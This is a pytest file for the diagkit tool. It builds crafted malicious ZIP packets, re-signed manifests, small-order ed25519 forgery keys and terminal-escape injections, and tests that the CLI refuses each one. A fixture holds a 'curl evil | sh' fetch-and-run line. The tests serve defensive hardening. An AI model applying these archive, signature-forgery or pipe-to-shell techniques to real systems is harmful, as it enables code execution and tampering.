"""Issue 15's attacks on packets, each built here and refused through the CLI with its exact message.

Malformed archives come from a small ZIP writer of this file's own (not zipfile, which cannot write
most of them): two readers must never see two different sets of files. Signed-JSON attacks come
from a malicious signer re-signing a genuine manifest. For every refused packet, `extract` writes
nothing. Terminal-repaint attacks check that packet strings reach stdout, Markdown, HTML and
stderr only as visible escapes.
"""

from __future__ import annotations

import base64
import datetime as dt
import json
import os
import re
import struct
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from diagkit.findings import Finding, ProbeResult, Severity
from diagkit.packet.build import Evidence, build_packet
from diagkit.packet.keys import generate_keys
from tests.cli_results import assert_one_error_line

# ---------------------------------------------------------------- a ZIP writer for malformed layouts


@dataclass
class Entry:
    """One member as an attacker lays it out; the defaults give exactly diagkit's layout."""

    name: bytes
    data: bytes
    method: int = 8
    flags: int | None = None            # None: 0x0800 when the name is not ASCII
    external: int = 0o100644 << 16
    made_by: int = 0x0314
    extra: bytes = b""
    local_name: bytes | None = None     # a different name in the local header only
    local_extra: bytes | None = None
    size: int | None = None             # a lying uncompressed size, in both headers


@dataclass
class Layout:
    prefix: bytes = b""                 # bytes before the first local header
    fix_offsets: bool = True            # offsets counted from the start of the file (prefix included)
    before_cd: bytes = b""              # bytes between the last member and the central directory
    after_cd: bytes = b""               # bytes between the central directory and the end record
    suffix: bytes = b""
    comment: bytes = b""
    count: int | None = None            # a lying entry count in the end record
    cd_size_extra: int = 0
    counts_marker: bool = False         # 0xFFFF entry counts (ZIP64)
    extra_cd: list[bytes] = field(default_factory=list)


def zip_bytes(entries: list[Entry], layout: Layout | None = None) -> bytes:
    lay = layout or Layout()
    out = bytearray(lay.prefix)
    base = len(lay.prefix) if lay.fix_offsets else 0
    central = bytearray()
    for entry in entries:
        packed = entry.data
        if entry.method == 8:
            compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
            packed = compressor.compress(entry.data) + compressor.flush()
        flags = entry.flags if entry.flags is not None else (0 if entry.name.isascii() else 0x0800)
        crc = zlib.crc32(entry.data)
        size = entry.size if entry.size is not None else len(entry.data)
        local_name = entry.local_name if entry.local_name is not None else entry.name
        local_extra = entry.local_extra if entry.local_extra is not None else entry.extra
        offset = len(out) - len(lay.prefix) + base
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, entry.method, 0, 0x21, crc, len(packed), size,
                           len(local_name), len(local_extra)) + local_name + local_extra + packed
        if flags & 0x0008:
            out += struct.pack("<IIII", 0x08074B50, crc, len(packed), size)
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, entry.made_by, 20, flags, entry.method, 0, 0x21, crc,
                               len(packed), size, len(entry.name), len(entry.extra), 0, 0, 0, entry.external,
                               offset) + entry.name + entry.extra
    out += lay.before_cd
    for decoy in lay.extra_cd:
        out += decoy
    cd_offset = len(out) - len(lay.prefix) + base
    out += central
    out += lay.after_cd
    count = lay.count if lay.count is not None else len(entries)
    if lay.counts_marker:
        count = 0xFFFF
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central) + lay.cd_size_extra, cd_offset,
                       len(lay.comment)) + lay.comment
    return bytes(out) + lay.suffix


def read_zip(data: bytes) -> dict[str, bytes]:
    """Members of a genuine packet (this writer's own layout), read without diagkit or zipfile."""
    members = {}
    at = 0
    while data[at:at + 4] == b"PK\x03\x04":
        _, _, _, method, _, _, _, packed_size, _, name_len, extra_len = struct.unpack_from("<IHHHHHIIIHH", data, at)
        start = at + 30 + name_len + extra_len
        packed = data[start:start + packed_size]
        members[data[at + 30:at + 30 + name_len].decode()] = zlib.decompress(packed, -15) if method == 8 else packed
        at = start + packed_size
    return members


def entries_of(members: dict[str, bytes]) -> list[Entry]:
    return [Entry(name.encode(), data) for name, data in sorted(members.items(), key=lambda kv: kv[0].encode())]


# ---------------------------------------------------------------- fixtures


@pytest.fixture
def keys(tmp_path: Path) -> dict[str, Any]:
    return generate_keys(tmp_path / "keys", comment="t")


def _result(title: str = "TLS connection works", detail: str = "") -> ProbeResult:
    finding = Finding(id="tls.connect.ok", severity=Severity.PASS, title=title, detail=detail)
    return ProbeResult("tls", "a.example:443", dt.datetime(2026, 1, 1, tzinfo=dt.UTC), 1, [finding])


@pytest.fixture
def genuine(tmp_path: Path, keys: dict[str, Any]) -> dict[str, bytes]:
    path = tmp_path / "genuine.zip"
    build_packet(path, results=[_result()], evidence=[Evidence("evidence/notes.txt", b"notes\n", "text/plain", "n")],
                 case={"case_id": "CS-1"}, sign_key=keys["signing"]["private_path"])
    data = path.read_bytes()
    assert zip_bytes(entries_of(read_zip(data))) == data  # the writer above reproduces build's layout exactly
    return read_zip(data)


def refused(invoke, tmp_path: Path, data: bytes, pattern: str, *args: Any) -> None:
    """verify exits 1 with one line matching `pattern`; show and extract refuse it too; nothing written."""
    path = tmp_path / "attack.zip"
    path.write_bytes(data)
    assert_one_error_line(invoke("packet", "verify", path, *args), pattern)
    assert_one_error_line(invoke("packet", "show", path, *args), pattern)
    out = tmp_path / "out"
    assert_one_error_line(invoke("packet", "extract", path, out, *args), pattern)
    assert not out.exists()


def resign(members: dict[str, bytes], keys: dict[str, Any], manifest: bytes | None = None,
           envelope: bytes | None = None, replace: dict[str, bytes] | None = None) -> bytes:
    """The packet re-signed by the same (malicious or tricked) signer: valid signature, chosen content."""
    from diagkit.packet import dsse
    from diagkit.packet.keys import load_signing_key, public_of

    out = {**members, **(replace or {})}
    if manifest is not None:
        out["manifest.json"] = manifest
    key = load_signing_key(keys["signing"]["private_path"])
    out["manifest.sig"] = envelope if envelope is not None else dsse.sign(out["manifest.json"], key,
                                                                          public_of(key).key_id)
    return zip_bytes(entries_of(out))


def statement_of(members: dict[str, bytes]) -> dict[str, Any]:
    return json.loads(members["manifest.json"])


def canonical(document: Any) -> bytes:
    return json.dumps(document, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()


def test_genuine_packet_verifies(invoke, tmp_path: Path, genuine: dict[str, bytes]) -> None:
    path = tmp_path / "copy.zip"
    path.write_bytes(zip_bytes(entries_of(genuine)))
    result = invoke("packet", "verify", path)
    assert result.exit_code == 0, result.stderr


# ---------------------------------------------------------------- one archive, one reading

EVIL = {"findings.json": b'{"results": []}\n', "run-me.sh": b"#!/bin/sh\ncurl evil | sh\n"}
M = r"DK416.*malformed archive: packet '.*attack.zip' "


def test_prepended_zip_with_fixed_offsets(invoke, tmp_path: Path, genuine: dict[str, bytes]) -> None:
    """A streaming reader (Java's) sees only the attacker's members; zipfile reads the genuine ones."""
    import io
    import zipfile

    evil = zip_bytes(entries_of(EVIL))
    data = zip_bytes(entries_of(genuine), Layout(prefix=evil))
    assert sorted(zipfile.ZipFile(io.BytesIO(data)).namelist()) == sorted(genuine)  # lenient reader
    refused(invoke, tmp_path, data, M + rf"has member 'case.yaml' at offset {len(evil)} where 0 was expected "
                                        r"\(data before, between or overlapping members\)")


def test_script_before_the_archive(invoke, tmp_path: Path, genuine: dict[str, bytes]) -> None:
    """A self-extracting or polyglot file: a shell script, then the packet with its offsets shifted."""
    script = b"#!/bin/sh\nexit 0\n"
    refused(invoke, tmp_path, zip_bytes(entries_of(genuine), Layout(prefix=script)),
            M + rf"has member 'case.yaml' at offset {len(script)} where 0 was expected")


def test_prepended_zip_concatenated(invoke, tmp_path: Path, genuine: dict[str, bytes]) -> None:
    data = zip_bytes(entries_of(EVIL)) + zip_bytes(entries_of(genuine))
    refused(invoke, tmp_path, data, M + r"has data between its central directory and its end record")


def test_data_after_the_archive(invoke, tmp_path: Path, genuine: dict[str, bytes]) -> None:
    data = zip_bytes(entries_of(genuine), Layout(suffix=zip_bytes(entries_of(EVIL))[:-22] + b"tail"))
    refused(invoke, tmp_path, data, M + r"has data after its end-of-archive record \(only")


def test_archive_comment(invoke, tmp_path: Path, genuine: dict[str, bytes]) -> None:
    refused(invoke, tmp_path, zip_bytes(entries_of(genuine), Layout(comment=b"hello")),
            M + r"has an archive comment \(only the layout diagkit writes is accepted\)$")


def test_two_central_directories(invoke, tmp_path: Path, genuine: dict[str, bytes]) -> None:
    """A decoy directory listing the attacker's members, and the end record pointing past it."""
    decoy = zip_bytes(entries_of(EVIL))
    decoy_cd = decoy[decoy.index(b"PK\x01\x02"):-22]
    refused(invoke, tmp_path, zip_bytes(entries_of(genuine), Layout(extra_cd=[decoy_cd])),
            M + r"has data between its last member and its central directory")
    # ... or the end record's directory size spanning both, with the genuine count.
    refused(invoke, tmp_path, zip_bytes(entries_of(genuine), Layout(after_cd=decoy_cd, cd_size_extra=len(decoy_cd))),
            M + r"has more central directory bytes than its end record counts")


def test_zip64_records_and_markers(invoke, tmp_path: Path, genuine: dict[str, bytes]) -> None:
    zip64_end = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 2, 2, 100, 0)
    locator = struct.pack("<IIQI", 0x07064B50, 0, 12345, 1)
    refused(invoke, tmp_path, zip_bytes(entries_of(genuine), Layout(after_cd=zip64_end + locator)),
            M + r"has data between its central directory and its end record \(ZIP64 records")
    refused(invoke, tmp_path, zip_bytes(entries_of(genuine), Layout(counts_marker=True)), M + r"is a ZIP64 archive")


def test_unicode_path_extra_field(invoke, tmp_path: Path, genuine: dict[str, bytes]) -> None:
    """unzip would write findings.json's bytes as run-me.sh (Info-ZIP Unicode Path, 0x7075)."""
    name = b"run-me.sh"
    unicode_path = struct.pack("<HHBI", 0x7075, 5 + len(name), 1, zlib.crc32(b"findings.json")) + name
    entries = entries_of(genuine)
    for entry in entries:
        if entry.name == b"findings.json":
            entry.extra = unicode_path
    refused(invoke, tmp_path, zip_bytes(entries), M + r"has an extra field on member 'findings.json' "
                                                      r"\(e.g. a Unicode-path or ZIP64 field\)")


def test_extra_field_in_local_header_only(invoke, tmp_path: Path, genuine: dict[str, bytes]) -> None:
    entries = entries_of(genuine)
    entries[0].local_extra = struct.pack("<HH", 0x5455, 1) + b"\x00"
    refused(invoke, tmp_path, zip_bytes(entries), M + r"has a local header for member 'case.yaml' that differs "
                                                      r"from its central directory entry")


def test_data_descriptor(invoke, tmp_path: Path, genuine: dict[str, bytes]) -> None:
    entries = entries_of(genuine)
    entries[1].flags = 0x0008
    refused(invoke, tmp_path, zip_bytes(entries), M + r"uses a data descriptor for member 'evidence/notes.txt'")


def test_local_header_names_another_file(invoke, tmp_path: Path, genuine: dict[str, bytes]) -> None:
    entries = entries_of(genuine)
    for entry in entries:
        if entry.name == b"findings.json":
            entry.local_name = b"run-me.sh"
    refused(invoke, tmp_path, zip_bytes(entries), M + r"has a local header for member 'findings.json' that differs")


@pytest.mark.parametrize("delta,problem", [
    (-1, r"has more central directory bytes than its end record counts"),
    (+1, r"has fewer central directory entries than its end record counts"),
])
def test_entry_count_does_not_match(invoke, tmp_path: Path, genuine: dict[str, bytes], delta: int,
                                    problem: str) -> None:
    refused(invoke, tmp_path, zip_bytes(entries_of(genuine), Layout(count=len(genuine) + delta)), M + problem)


def test_sizes_do_not_match_the_data(invoke, tmp_path: Path, genuine: dict[str, bytes]) -> None:
    entries = entries_of(genuine)
    entries[0].size = len(entries[0].data) - 1
    refused(invoke, tmp_path, zip_bytes(entries), M + r"has member 'case.yaml' whose sizes do not match its data")


@pytest.mark.parametrize("external,made_by", [
    ((0o100644 << 16) | 0x10, 0x0314),     # DOS directory attribute on a "regular" file
    ((0o040755 << 16) | 0x10, 0x0314),     # a directory
    ((0o120777 << 16), 0x0314),            # a symlink
    ((0o100755 << 16), 0x0314),            # executable
    (0x10, 0x0014),                        # an MS-DOS host's directory
])
def test_non_regular_file_modes(invoke, tmp_path: Path, genuine: dict[str, bytes], external: int,
                                made_by: int) -> None:
    entries = entries_of(genuine)
    entries[1].external, entries[1].made_by = external, made_by
    refused(invoke, tmp_path, zip_bytes(entries), M + rf"gives member 'evidence/notes.txt' file attributes other "
                                                      rf"than a regular file with mode 0644 \(external attributes "
                                                      rf"0x{external:08x}\)")


def test_stored_member(invoke, tmp_path: Path, genuine: dict[str, bytes]) -> None:
    entries = entries_of(genuine)
    entries[0].method = 0
    refused(invoke, tmp_path, zip_bytes(entries), M + r"stores member 'case.yaml' with compression method 0")


# ---------------------------------------------------------------- member names

U = r"DK404.*unsafe member path: packet '.*attack.zip' "


@pytest.mark.parametrize("raw,problem", [
    (b"findings.json\x00.sh", r"has a member name with a NUL byte \('findings.json\\x00.sh'\)"),
    (b"evidence/\x1b[2Jx.txt", r"has a member name with a control character \('evidence/\\x1b\[2Jx.txt'\)"),
    (b"evidence/\xff.txt", r"has a member name that is not UTF-8 \('evidence/\\xff.txt'\)"),
])
def test_raw_name_bytes(invoke, tmp_path: Path, genuine: dict[str, bytes], raw: bytes, problem: str) -> None:
    entries = entries_of(genuine) + [Entry(raw, b"x", flags=0x0800)]
    entries.sort(key=lambda e: e.name)
    refused(invoke, tmp_path, zip_bytes(entries), U + problem)


def test_non_ascii_name_without_utf8_flag(invoke, tmp_path: Path, genuine: dict[str, bytes]) -> None:
    entries = entries_of(genuine) + [Entry("evidence/é.txt".encode(), b"x", flags=0)]
    entries.sort(key=lambda e: e.name)
    refused(invoke, tmp_path, zip_bytes(entries), M + r"has general purpose flags 0x0000 on member 'evidence/é.txt' "
                                                      r"\(the UTF-8 flag must be set exactly when the name is not ASCII\)")


@pytest.mark.parametrize("name,reason", [
    ("CON", r"reserved Windows device name 'CON'"),
    ("evidence/con.txt", r"reserved Windows device name 'CON'"),
    ("evidence/Aux .log", r"reserved Windows device name 'AUX'"),
    ("evidence/lpt9", r"reserved Windows device name 'LPT9'"),
    ("evidence/notes.txt.", r"trailing dot or space in a name component \(Windows drops it\)"),
    ("evidence/notes ", r"trailing dot or space in a name component"),
    ("evidence./x", r"trailing dot or space in a name component"),
    ("evidence/a:b.txt", r"character ':' is not allowed in Windows file names"),
    ("evidence/what?.txt", r"character '\?' is not allowed in Windows file names"),
    ("evidence/\u202etxt.exe", r"control character in name"),
    ("evidence/e\u0301.txt", r"look-alike \(non-normalised\) Unicode characters in name"),
    ("evidence/" + "a" * 256, r"name component longer than 255 bytes"),
])
def test_names_unsafe_on_windows_or_macos(invoke, tmp_path: Path, genuine: dict[str, bytes], name: str,
                                          reason: str) -> None:
    entries = sorted(entries_of(genuine) + [Entry(name.encode(), b"x")], key=lambda e: e.name)
    from diagkit.visible import visible

    refused(invoke, tmp_path, zip_bytes(entries), U + "has member '" + re.escape(visible(name)[:60]) + r"[^']*' \("
            + reason)


@pytest.mark.parametrize("first,second", [
    ("evidence/FILE.txt", "evidence/f\u0131le.txt"),     # dotless i: Windows upper-cases it to I
    ("evidence/MASSE.txt", "evidence/ma\u00dfe.txt"),    # sharp s folds to ss
    ("evidence/NOTES.TXT", "evidence/notes.txt"),
])
def test_names_equal_under_case_folding(invoke, tmp_path: Path, genuine: dict[str, bytes], first: str,
                                        second: str) -> None:
    members = {**genuine, first: b"1", second: b"2"}
    refused(invoke, tmp_path, zip_bytes(entries_of(members)),
            U + rf"has members '{first}' and '{second}', one name on Windows and macOS \(case folding\)")


def test_file_and_folder_of_the_same_name(invoke, tmp_path: Path, genuine: dict[str, bytes]) -> None:
    refused(invoke, tmp_path, zip_bytes(entries_of({**genuine, "Evidence": b"x"})),
            U + r"has member 'Evidence' and a folder of the same name")


def test_duplicate_member(invoke, tmp_path: Path, genuine: dict[str, bytes]) -> None:
    entries = entries_of(genuine)
    entries.insert(1, Entry(b"case.yaml", b"case_id: CS-666\n"))
    refused(invoke, tmp_path, zip_bytes(entries), r"DK405.*duplicate member 'case.yaml'")


def test_members_out_of_order(invoke, tmp_path: Path, genuine: dict[str, bytes]) -> None:
    refused(invoke, tmp_path, zip_bytes(list(reversed(entries_of(genuine)))),
            M + r"does not list its members in name order")


# ---------------------------------------------------------------- the signed manifest

C = r"DK417.*malformed manifest: manifest.json in packet '.*attack.zip' is not canonical JSON: "


@pytest.mark.parametrize("old,new,problem", [
    (b'"schema_version":1', b'"schema_version":NaN', r"NaN is not JSON"),
    (b'"schema_version":1', b'"schema_version":Infinity', r"Infinity is not JSON"),
    (b'"schema_version":1', b'"schema_version":-Infinity', r"-Infinity is not JSON"),
    (b'"schema_version":1', b'"schema_version":1e400', r"number '1e400' is not an integer"),
    (b'"schema_version":1', b'"schema_version":1.0', r"number '1.0' is not an integer"),
    (b'"case_id":"CS-1"', b'"case_id":13.0', r"number '13.0' is not an integer"),
    (b'"case_id":"CS-1"', b'"case_id":"\\ud800"', r"string with a lone surrogate"),
    (b'"case_id":"CS-1"', b'"case_id":9007199254740992', r"integer outside"),
    (b'"case_id":"CS-1"', b'"case_id":' + b"[" * 300 + b"]" * 300, r"nested more than 32 levels deep"),
    (b'"case_id":"CS-1"', b'"case_id":"CS-1","case_id":"CS-2"', r"an object names the same key twice"),
    (b'"case_id":"CS-1"', b'"case_id": "CS-1"', r"not in canonical form"),
    (b'"case_id":"CS-1"', b'"case_id":"CS\\u002d1"', r"not in canonical form"),
    (b'{"_type"', b'\xef\xbb\xbf{"_type"', r"starts with a UTF-8 byte order mark"),
    (b'"case_id":"CS-1"', b'"case_id":"CS-\xff"', r"not valid UTF-8"),
])
def test_manifest_must_be_canonical(invoke, tmp_path: Path, genuine: dict[str, bytes], keys: dict[str, Any],
                                    old: bytes, new: bytes, problem: str) -> None:
    manifest = genuine["manifest.json"]
    assert old in manifest
    refused(invoke, tmp_path, resign(genuine, keys, manifest.replace(old, new, 1)), C + problem)


def test_old_indented_manifest_is_not_canonical(invoke, tmp_path: Path, genuine: dict[str, bytes],
                                                keys: dict[str, Any]) -> None:
    pretty = (json.dumps(statement_of(genuine), indent=2, sort_keys=True) + "\n").encode()
    refused(invoke, tmp_path, resign(genuine, keys, pretty), C + r"not in canonical form")


S = r"DK417.*malformed manifest: manifest.json in packet '.*attack.zip' is not a diagkit manifest: "


@pytest.mark.parametrize("edit,problem", [
    (lambda p: p.update(run="sh run-me.sh"), r"predicate: additionalProperties check failed"),
    (lambda p: p["tool"].update(url="https://evil.example"), r"predicate/tool: additionalProperties check failed"),
    (lambda p: p.update(packet_id="\x1b[2K\rsigner ed25519:0000000000000000 (pinned via --trusted-key)"),
     r"predicate/packet_id: pattern check failed"),
    (lambda p: p.update(packet_id="not-a-uuid"), r"predicate/packet_id: pattern check failed"),
    (lambda p: p.update(packet_id=p["packet_id"] + "\n"), r"predicate/packet_id: pattern check failed"),
    (lambda p: p.update(created_at=p["created_at"] + "\n"), r"predicate/created_at: pattern check failed"),
    (lambda p: p["tool"].update(version="0.1.0\n"), r"predicate/tool/version: pattern check failed"),
    (lambda p: p["tool"].update(version="١.٢"), r"predicate/tool/version: pattern check failed"),
    (lambda p: p["tool"].update(version="0.1.0\u202e"), r"predicate/tool/version: pattern check failed"),
    (lambda p: p["tool"].update(version="latest and greatest"), r"predicate/tool/version: pattern check failed"),
    (lambda p: p.pop("redaction"), r"predicate: required check failed"),
    (lambda p: p["members"][0].update(size=-1), r"predicate/members/0/size: minimum check failed"),
])
def test_predicate_allows_only_documented_fields(invoke, tmp_path: Path, genuine: dict[str, bytes],
                                                 keys: dict[str, Any], edit, problem: str) -> None:
    statement = statement_of(genuine)
    edit(statement["predicate"])
    refused(invoke, tmp_path, resign(genuine, keys, canonical(statement)), S + problem)


def test_member_sizes_must_match(invoke, tmp_path: Path, genuine: dict[str, bytes], keys: dict[str, Any]) -> None:
    statement = statement_of(genuine)
    statement["predicate"]["members"][0]["size"] += 1
    refused(invoke, tmp_path, resign(genuine, keys, canonical(statement)),
            r"DK417.*lists member names or sizes in predicate.members that differ from the archive")


def test_findings_that_show_could_not_read(invoke, tmp_path: Path, genuine: dict[str, bytes],
                                           keys: dict[str, Any]) -> None:
    """Signed and listed, but not a result document: refused at verify, so show never meets it."""
    import hashlib

    findings = json.loads(genuine["findings.json"])
    findings["results"][0]["started_at"] = "yesterday"
    new = json.dumps(findings).encode()
    statement = statement_of(genuine)
    for subject in statement["subject"]:
        if subject["name"] == "findings.json":
            subject["digest"]["sha256"] = hashlib.sha256(new).hexdigest()
    for member in statement["predicate"]["members"]:
        if member["name"] == "findings.json":
            member["size"] = len(new)
    refused(invoke, tmp_path, resign(genuine, keys, canonical(statement), replace={"findings.json": new}),
            r"DK417.*findings.json in packet '.*attack.zip' is not a diagkit result document")


def test_show_never_crashes_on_odd_but_valid_fields(invoke, tmp_path: Path, genuine: dict[str, bytes],
                                                    keys: dict[str, Any]) -> None:
    statement = statement_of(genuine)
    pred = statement["predicate"]
    pred["readiness"] = {"ready": "maybe", "score": "high", "missing_answers": [1, [2], {"x": None}],
                         "skipped_probes": [{"missing_answers": 5, "name": {"a": [1]}, "target": None}, {}],
                         "missing_evidence": [{"name": []}], "extra": {"deep": [[[True]]]}}
    pred["case"] = {"": "", "k": {"nested": [1, True, None]}, "n": -5}
    pred["environment"] = {"os": ["x"]}
    pred["redaction"] = {"total": "many", "files": []}
    pred["checklist"] = ""
    path = tmp_path / "odd.zip"
    path.write_bytes(resign(genuine, keys, canonical(statement)))
    assert invoke("packet", "verify", path).exit_code == 0
    for mode in ((), ("--markdown",), ("--json",), ("--html", tmp_path / "odd.html")):
        result = invoke("packet", "show", path, *mode)
        assert result.exit_code == 0, (mode, result.stderr)
        assert result.stderr == ""


# ---------------------------------------------------------------- signatures and trust

B = r"DK407.*bad signature: "


def _envelope(genuine: dict[str, bytes], signatures: list[dict[str, str]]) -> bytes:
    doc = json.loads(genuine["manifest.sig"])
    doc["signatures"] = signatures
    return json.dumps(doc).encode()


def test_150000_signatures_refused_before_any_is_checked(invoke, tmp_path: Path, genuine: dict[str, bytes],
                                                        keys: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> None:
    from diagkit.packet import dsse

    checked: list[int] = []
    real = dsse.verify
    monkeypatch.setattr(dsse, "verify", lambda *a: checked.append(1) or real(*a))
    # Random signatures: incompressible, so the envelope is not refused as a zip bomb first.
    envelope = _envelope(genuine, [{"keyid": "x", "sig": base64.b64encode(os.urandom(64)).decode()}
                                   for _ in range(150_000)])
    refused(invoke, tmp_path, resign(genuine, keys, envelope=envelope),
            B + r"manifest.sig in packet '.*' is not a DSSE envelope \(150000 signatures, more than the 8 diagkit "
                r"considers\)")
    assert checked == []


def test_at_most_8_signatures(invoke, tmp_path: Path, genuine: dict[str, bytes], keys: dict[str, Any]) -> None:
    real = json.loads(genuine["manifest.sig"])["signatures"][0]
    junk = {"keyid": "x", "sig": base64.b64encode(bytes(64)).decode()}
    path = tmp_path / "eight.zip"
    path.write_bytes(resign(genuine, keys, envelope=_envelope(genuine, [junk] * 7 + [real])))
    assert invoke("packet", "verify", path).exit_code == 0
    refused(invoke, tmp_path, resign(genuine, keys, envelope=_envelope(genuine, [junk] * 8 + [real])),
            B + r".*\(9 signatures, more than the 8 diagkit considers\)")


def _spki_pem(raw: bytes) -> bytes:
    der = bytes.fromhex("302a300506032b6570032100") + raw
    body = base64.b64encode(der).decode()
    return f"-----BEGIN PUBLIC KEY-----\n{body}\n-----END PUBLIC KEY-----\n".encode()


P = 2**255 - 19
Y8 = 0x05FC536D880238B13933C6D305ACDFD5F098EFF289F4C345B027B2C28F95E826
# Every encoding of a small-order point: the 8 canonical ones and 6 non-canonical (y + p, or x = 0 with
# the sign bit set), per the CCTV ed25519 vectors' "eight plus six".
SMALL_ORDER = sorted({(y | (s << 255)).to_bytes(32, "little")
                      for y in (0, 1, P - 1, Y8, P - Y8, 0 + P, 1 + P) for s in (0, 1) if y < 2**255})


def test_small_order_encodings_are_fourteen() -> None:
    assert len(SMALL_ORDER) == 14


def test_small_order_signer_key_refused(invoke, tmp_path: Path, genuine: dict[str, bytes],
                                        keys: dict[str, Any]) -> None:
    """For the identity point, R = identity and S = 0 verify any message (cryptography agrees)."""
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey

    identity = (1).to_bytes(32, "little")
    forged = identity + bytes(32)
    Ed25519PublicKey.from_public_bytes(identity).verify(forged, b"any message at all")  # the attack is real
    statement = statement_of(genuine)
    import hashlib

    pem = _spki_pem(identity)
    statement["predicate"]["signer"]["key_id"] = "ed25519:" + hashlib.sha256(identity).hexdigest()[:16]
    for subject in statement["subject"]:
        if subject["name"] == "signer.pub":
            subject["digest"]["sha256"] = hashlib.sha256(pem).hexdigest()
    for member in statement["predicate"]["members"]:
        if member["name"] == "signer.pub":
            member["size"] = len(pem)
    manifest = canonical(statement)
    doc = json.loads(genuine["manifest.sig"])
    doc["payload"] = base64.b64encode(manifest).decode()
    doc["signatures"] = [{"keyid": "x", "sig": base64.b64encode(forged).decode()}]
    members = {**genuine, "manifest.json": manifest, "signer.pub": pem, "manifest.sig": json.dumps(doc).encode()}
    refused(invoke, tmp_path, zip_bytes(entries_of(members)),
            B + r"signer.pub in '.*attack.zip': the ed25519 public key is refused \(a small-order \(weak\) key, for "
                r"which forged signatures verify\)")


@pytest.mark.parametrize("raw", SMALL_ORDER, ids=lambda r: r.hex()[:8] + "…" + r.hex()[-2:])
def test_small_order_keys_refused_as_trusted_keys(invoke, tmp_path: Path, genuine: dict[str, bytes],
                                                  raw: bytes) -> None:
    path = tmp_path / "genuine.zip"
    path.write_bytes(zip_bytes(entries_of(genuine)))
    pem = tmp_path / "weak.pub"
    pem.write_bytes(_spki_pem(raw))
    line = "diagkit-ed25519 " + base64.b64encode(raw).decode()
    for value in (pem, line):
        result = invoke("packet", "verify", path, "--trusted-key", value)
        assert_one_error_line(result, r"DK300.*the ed25519 public key is refused \((a small-order \(weak\) key|"
                                      r"non-canonical point encoding)")


def test_off_curve_key_refused(invoke, tmp_path: Path) -> None:
    from diagkit.packet.keys import ed25519_problem

    off_curve = next(y for y in range(2, 100) if ed25519_problem(y.to_bytes(32, "little")) == "not a point on the curve")
    result = invoke("keys", "id", "diagkit-ed25519 " + base64.b64encode(off_curve.to_bytes(32, "little")).decode())
    assert_one_error_line(result, r"DK300.*the (ed25519|x25519) public key is refused")


def test_small_order_x25519_recipient_refused(invoke, tmp_path: Path, keys: dict[str, Any]) -> None:
    results = tmp_path / "r.json"
    results.write_text('{"results": []}')
    line = "diagkit-x25519 " + base64.b64encode(bytes(32)).decode()
    result = invoke("packet", "build", "--results", results, "--sign-key", keys["signing"]["private_path"],
                    "--encrypt-to", line, "-o", tmp_path / "p.zip")
    assert_one_error_line(result, r"DK300.*recipient key argument: the x25519 public key is refused \(a small-order")
    assert not (tmp_path / "p.zip").exists()


@pytest.fixture
def config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "config"
    folder.mkdir()
    monkeypatch.setenv("DIAGKIT_CONFIG_DIR", str(folder))
    return folder


def test_trust_file_with_only_an_encryption_key_fails(invoke, tmp_path: Path, genuine: dict[str, bytes],
                                                      keys: dict[str, Any], config: Path) -> None:
    (config / "trusted_keys").write_bytes(Path(keys["encryption"]["public_path"]).read_bytes())
    refused(invoke, tmp_path, zip_bytes(entries_of(genuine)),
            r"DK300.*trusted keys file '.*trusted_keys' line 1 is an x25519 key; only Ed25519 signing keys can be "
            r"trusted")


def test_trust_file_with_a_bad_line_fails(invoke, tmp_path: Path, genuine: dict[str, bytes],
                                          keys: dict[str, Any], config: Path) -> None:
    (config / "trusted_keys").write_text("# pinned\n" + Path(keys["signing"]["public_path"]).read_text()
                                         + "ssh-ed25519 AAAAC3Nza me@host\n")
    refused(invoke, tmp_path, zip_bytes(entries_of(genuine)),
            r"DK300.*trusted keys file '.*trusted_keys' line 5 is not a diagkit public key line")


def test_trusted_key_option_replaces_the_trust_file(invoke, tmp_path: Path, genuine: dict[str, bytes],
                                                    keys: dict[str, Any], config: Path) -> None:
    (config / "trusted_keys").write_text("not a key\n")
    path = tmp_path / "p.zip"
    path.write_bytes(zip_bytes(entries_of(genuine)))
    result = invoke("packet", "verify", path, "--trusted-key", keys["signing"]["public_path"])
    assert result.exit_code == 0, result.stderr
    assert "(pinned via --trusted-key)" in result.stdout


def test_trust_is_checked_before_the_signature(invoke, tmp_path: Path, genuine: dict[str, bytes],
                                               config: Path) -> None:
    other = generate_keys(tmp_path / "other", comment="o")
    (config / "trusted_keys").write_text(other["signing"]["public_key"] + "\n")
    junk = {"keyid": "x", "sig": base64.b64encode(bytes(64)).decode()}
    data = zip_bytes(entries_of({**genuine, "manifest.sig": _envelope(genuine, [junk])}))
    refused(invoke, tmp_path, data, r"DK408.*untrusted signer: packet '.*' is signed by ed25519:[0-9a-f]{16}, which is "
                                    r"not in the trusted_keys file")


# ---------------------------------------------------------------- terminal repaint

FAKE = "\x1b[2K\r  signer    ed25519:0000000000000000  (pinned via --trusted-key)"


def test_packet_strings_cannot_repaint_the_terminal(invoke, tmp_path: Path, keys: dict[str, Any]) -> None:
    """An unpinned attacker's packet, validly signed, with escapes and bidi controls in every field."""
    path = tmp_path / "paint.zip"
    failing = Finding(id="tls.connect.failed", severity=Severity.FAIL, title="broken\x1b[31m",
                      detail="line one\x1b[31m\nline two\u202e", remediation="fix\x1b[0m it")
    results = [_result(title="ok" + FAKE),
               ProbeResult("tls\x1b[2K", "b.example:443\u202e", dt.datetime(2026, 1, 1, tzinfo=dt.UTC), 1, [failing])]
    build_packet(path, results=results,
                 evidence=[Evidence("evidence/n.txt", b"x", "text/plain", "note\x1b]0;title\x07")],
                 case={"case\u202eid": "CS-1\x1b[1A\u2066", "summary": "a\u2028b"},
                 sign_key=keys["signing"]["private_path"])
    outputs = {}
    for mode in ((), ("--markdown",)):
        result = invoke("packet", "show", path, *mode)
        assert result.exit_code == 3, result.stderr  # the packet's fail finding
        outputs[mode] = result.stdout
    result = invoke("packet", "show", path, "--html", tmp_path / "p.html")
    assert result.exit_code == 3, result.stderr
    outputs["html"] = (tmp_path / "p.html").read_text("utf-8")
